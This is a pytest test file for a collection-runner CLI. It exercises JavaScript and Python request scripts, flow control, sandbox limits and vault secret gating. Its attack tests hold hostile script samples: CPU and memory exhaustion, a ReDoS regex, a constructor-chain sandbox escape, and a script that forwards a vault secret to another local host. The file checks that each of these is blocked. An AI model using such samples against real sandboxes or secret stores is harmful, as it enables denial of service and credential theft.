"""JavaScript scripts through the real CLI: rq in JavaScript, flow control in both languages,
attacks that must leave the run going, secrets gated as from Python, and Requestly's own
sample collections run with their scripts unchanged against a local server."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from support.build import api, folder, rows, write_collection
from support.servers import RecordedRequest, RecordingServer, Reply

REALWORLD = Path(__file__).resolve().parents[1] / "fixtures" / "realworld"
SECRET = "tok_Js7-route-canary-0099"


def run(run_cli: Any, tmp_path: Path, *records: dict[str, Any], args: tuple[str, ...] = ()) -> Any:
    path = write_collection(tmp_path / "c.json", *records)
    return run_cli("run", path, "--reporters", "cli,json", "--reporter-json-export", tmp_path / "r.json", *args)


def _tests_of(result: Any) -> list[tuple[str, str, str]]:
    return [(e["item"]["name"], t["name"], t["status"]) for e in result.json["executions"] for t in e["tests"]]


@pytest.fixture()
def other() -> Iterator[RecordingServer]:
    """A recorder on 127.0.0.2: a host the vault secret must never reach."""
    with RecordingServer(host="127.0.0.2") as server:
        yield server


# --- rq in JavaScript ---------------------------------------------------------------------------

def test_rq_members_in_javascript_reach_the_server_and_the_report(run_cli, tmp_path, recording_server):
    recording_server.respond("/token", body={"token": "t-123"})
    recording_server.respond("/data", body={"id": 7, "tags": ["a", "b"]})
    pre = "\n".join([
        "const res = rq.sendRequest({url: rq.variables.get('base') + '/token', method: 'POST', header: {'X-From': 'js'}});",
        "rq.variables.set('tok', res.json().token);",
        "rq.request.headers.add('Authorization', 'Bearer {{tok}}');",
        "rq.request.headers.upsert('X-Replace', 'new');",
        "rq.request.queryParams.add('page', '2');",
        "rq.request.method = 'put';",
        "rq.request.body = JSON.stringify({n: 1 + 1});",
        "console.log('pre', rq.info.requestName, rq.info.eventName, rq.info.iteration);",
    ])
    post = "\n".join([
        "rq.test('status', () => rq.response.to.have.status(200));",
        "rq.test('json', function () { rq.expect(rq.response.json().tags).to.have.lengthOf(2); });",
        "rq.test('returns false fails', () => false);",
        "rq.test.skip('later');",
        "rq.environment.set('seen_id', rq.response.json().id);",
        "rq.collectionVariables.set('flag', true);",
        "console.warn('post', rq.response.code, rq.response.headers.get('content-type'));",
    ])
    result = run(run_cli, tmp_path,
                 folder("c", "API", variables={"base": recording_server.url}),
                 api("r", "Data", "c", "{{base}}/data", method="POST", headers=rows(("X-Replace", "old")),
                     body="{}", content_type="application/json", pre=pre, post=post),
                 args=("--export-environment", str(tmp_path / "env.json")))
    assert result.code == 1, result  # one test returns false
    token_call, data_call = recording_server.requests
    assert (token_call.method, token_call.header("X-From")) == ("POST", "js")
    assert data_call.method == "PUT" and data_call.header("Authorization") == "Bearer t-123"
    assert data_call.header("X-Replace") == "new" and data_call.arg("page") == "2" and json.loads(data_call.text) == {"n": 2}
    assert _tests_of(result) == [("Data", "status", "passed"), ("Data", "json", "passed"),
                                ("Data", "returns false fails", "failed"), ("Data", "later", "skipped")]
    console = result.json["executions"][0]["console"]
    assert console[0] == "pre Data prerequest 0" and console[1].startswith("[warn] post 200 application/json")
    env = json.loads((tmp_path / "env.json").read_text())
    assert {v["key"]: v["value"] for v in env["values"]}["seen_id"] in (7, "7")


# --- flow control ---------------------------------------------------------------------------------

def _three(url: str, pre_b: str = "", post_a: str = "", post_c: str = "") -> tuple[dict[str, Any], ...]:
    return (folder("c", "Flow"),
            api("a", "A", "c", url + "/a", post=post_a),
            api("b", "B", "c", url + "/b", pre=pre_b),
            api("c3", "C", "c", url + "/c", post=post_c))


@pytest.mark.parametrize("language", ["python", "javascript"])
def test_set_next_request_jumps_and_none_stops(run_cli, tmp_path, recording_server, language):
    marker = "// javascript\n" if language == "javascript" else "# python\n"
    jump = marker + "rq.execution.setNextRequest('C')"
    stop = marker + ("rq.execution.setNextRequest(null);" if language == "javascript" else "rq.execution.setNextRequest(None)")
    result = run(run_cli, tmp_path, *_three(recording_server.url, post_a=jump, post_c=stop), args=("-n", "2"))
    assert result.code == 0, result
    assert recording_server.requests.paths == ["/a", "/c", "/a", "/c"]


@pytest.mark.parametrize("language", ["python", "javascript"])
def test_skip_request_keeps_the_request_from_the_server(run_cli, tmp_path, recording_server, language):
    skip = "// javascript\nrq.execution.skipRequest();" if language == "javascript" else "# python\nrq.execution.skipRequest()"
    result = run(run_cli, tmp_path, *_three(recording_server.url, pre_b=skip))
    assert result.code == 0, result
    assert recording_server.requests.paths == ["/a", "/c"]


def test_a_loop_by_request_id_is_bounded_by_max_requests(run_cli, tmp_path, recording_server):
    loop = "rq.execution.setNextRequest('a')"  # the request's id, in Python
    result = run(run_cli, tmp_path, *_three(recording_server.url, post_a=loop), args=("--max-requests", "7"))
    assert result.code == 4, result
    assert recording_server.requests.paths == ["/a"] * 7
    assert "reached --max-requests 7" in result.output


def test_an_unknown_next_request_ends_the_iteration_with_a_warning(run_cli, tmp_path, recording_server):
    result = run(run_cli, tmp_path, *_three(recording_server.url, post_a="// javascript\nrq.execution.setNextRequest('Nope');"))
    assert result.code == 0, result
    assert recording_server.requests.paths == ["/a"]
    assert "setNextRequest: no request named 'Nope'" in result.output


# --- attacks through the CLI: each stopped, the run goes on ------------------------------------------

@pytest.mark.parametrize(("source", "kind"), [
    ("while (true) {}", "timeout"),
    ("/(a+)+$/.test('a'.repeat(40) + '!')", "timeout"),
    ("let s = 'x'; while (true) s += s;", "memory"),
    ("function f() { return f() + 1 }\nf()", "runtime"),
    ("for (;;) console.log('flood'.repeat(100))", "output"),
    ("const g = (function(){}).constructor.constructor('return this')();\ng.process.exit(1)", "runtime"),
])
def test_a_javascript_attack_is_stopped_and_the_next_request_runs(run_cli, tmp_path, recording_server, source, kind):
    result = run(run_cli, tmp_path, folder("c", "Attack"),
                 api("a", "Attack", "c", recording_server.url + "/a", pre="// javascript\n" + source),
                 api("b", "After", "c", recording_server.url + "/b", post="rq.test('after', () => rq.response.to.have.status(200));"),
                 args=("--timeout-script", "1000"))
    assert result.code == 4, result
    attack, after = result.json["executions"]
    assert attack["error"]["kind"] == kind, attack["error"]
    assert recording_server.requests.paths == ["/b"]
    assert after["tests"] == [{"name": "after", "status": "passed", **{k: v for k, v in after["tests"][0].items()
                                                                     if k not in ("name", "status")}}]
    assert "Traceback" not in result.output


# --- secrets: JavaScript is gated exactly like Python --------------------------------------------------

def _store(run_cli: Any, key: str, value: str, *hosts: str) -> None:
    args = ["vault", "set", key, "-"]
    for host in hosts:
        args += ["--allow-host", host]
    assert run_cli(*args, input=value).code == 0


def test_javascript_cannot_forward_a_vault_secret_to_another_host(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SECRET, "127.0.0.1")
    post = (f"const sent = rq.request.headers.get('X-Key');\n"
            f"rq.sendRequest({{url: '{other.url}/steal', header: {{'X-Got': sent}}}});")
    result = run(run_cli, tmp_path, folder("c", "Routes"),
                 api("a", "Authed", "c", recording_server.url + "/a",
                     headers=[{"key": "X-Key", "value": "{{vault:token}}"}], post=post))
    assert result.code == 5, result
    error = result.json["executions"][0]["error"]
    assert error["type"] == "vault" and "'token'" in error["message"] and error["source"] == "post-response", error
    assert len(other.requests) == 0
    assert recording_server.requests[0].header("X-Key") == SECRET
    assert SECRET not in result.output


def test_a_vault_read_in_javascript_confines_the_run(run_cli, tmp_path, recording_server, other):
    _store(run_cli, "token", SECRET, "127.0.0.1")
    result = run(run_cli, tmp_path, folder("c", "Routes"),
                 api("a", "Copy", "c", recording_server.url + "/a", pre="rq.environment.set('stash', rq.vault.get('token'));"),
                 api("b", "Send", "c", other.url + "/steal", headers=[{"key": "X-Stash", "value": "{{stash}}"}]))
    assert result.code == 5, result
    assert result.json["executions"][1]["error"]["type"] == "vault"
    assert len(other.requests) == 0
    assert SECRET not in result.output


# --- Requestly's sample collections, scripts unchanged ---------------------------------------------------

def _echo(req: RecordedRequest) -> Reply:
    body = {"method": req.method, "headers": {k.lower(): v for k, v in req.headers},
            "queryParameters": {k: v for k, v in _query(req.raw_path)}}
    return Reply(200, [("Content-Type", "application/json")], json.dumps(body).encode())


def _query(raw_path: str) -> list[tuple[str, str]]:
    from urllib.parse import parse_qsl, urlsplit

    return parse_qsl(urlsplit(raw_path).query, keep_blank_values=True)


@pytest.mark.parametrize("name", ["requestly-sample-collections.json", "requestly-sample-collections-graphql.json"])
def test_requestly_sample_collections_run_their_scripts_unchanged(run_cli, tmp_path, recording_server, name):
    original = json.loads((REALWORLD / name).read_text())
    local = json.loads(json.dumps(original))
    for record in local["records"]:  # every request goes to the local server; nothing else changes
        request = (record.get("data") or {}).get("request")
        if isinstance(request, dict) and isinstance(request.get("url"), str):
            request["url"] = re.sub(r"^https?://[^/]+", recording_server.url, request["url"])
    scripts = lambda d: [(r["name"], r.get("data", {}).get("scripts")) for r in d["records"]]  # noqa: E731
    assert scripts(local) == scripts(original)  # only hosts moved
    path = tmp_path / name
    path.write_text(json.dumps(local))
    recording_server.handle("/echo", _echo)
    recording_server.respond("/v0/*", body=[101, 102, 103])
    result = run_cli("run", path, "--reporters", "cli,json", "--reporter-json-export", tmp_path / "r.json",
                     "--env-var", f"url={recording_server.url}", "--env-var", f"base_url={recording_server.url}",
                     "--env-var", "endpoint=echo", "--env-var", "item-id=101")
    executions = result.json["executions"]
    errors = [(e["item"]["name"], e["error"]) for e in executions if e["error"]]
    assert errors == [], result
    tests = _tests_of(result)
    assert len(tests) >= 9 and all(status == "passed" for _, _, status in tests), tests
    assert ("Get and Set token", "Received token and set it in environment!", "passed") in tests
    assert ("Make Authenticated Request", "Successfuly sent token!", "passed") in tests
    assert result.code == 0, result


# --- start-up: QuickJS is imported only when a JavaScript script runs ---------------------------------------

def test_version_and_python_only_runs_do_not_import_quickjs(tmp_path, recording_server):
    collection = write_collection(tmp_path / "c.json", folder("c", "Py"),
                                  api("a", "A", "c", recording_server.url + "/a", post="rq.test('ok', lambda: True)\n"))
    probe = (
        "import sys\n"
        "from rqrun.cli.main import main\n"
        "try:\n"
        "    main(sys.argv[1:])\n"
        "except SystemExit:\n"
        "    pass\n"
        "print('QUICKJS' if 'quickjs' in sys.modules or '_quickjs' in sys.modules else 'CLEAN', file=sys.stderr)\n"
    )
    for args in (["--version"], ["run", str(collection)]):
        proc = subprocess.run([sys.executable, "-c", probe, *args], capture_output=True, text=True, timeout=60)
        assert proc.stderr.strip().endswith("CLEAN"), (args, proc.stdout, proc.stderr)
    # The worker side: a Python job leaves QuickJS unloaded, a JavaScript job loads it.
    worker_probe = (
        "import sys\n"
        "from rqrun.sandbox.worker import Worker\n"
        "w = Worker(0, 1, {'memory_mb': 256})\n"
        "job = {'source': SRC, 'phase': 'prerequest', 'timeout_ms': 5000, 'request': {}, 'scopes': {}, 'language': LANG}\n"
        "w.run(job)\n"
        "print('quickjs' in sys.modules)\n"
    )
    for lang, src, loaded in (("python", "x = 1", "False"), ("javascript", "var x = 1", "True")):
        code = worker_probe.replace("SRC", repr(src)).replace("LANG", repr(lang))
        proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
        assert proc.stdout.strip() == loaded, (lang, proc.stdout, proc.stderr)
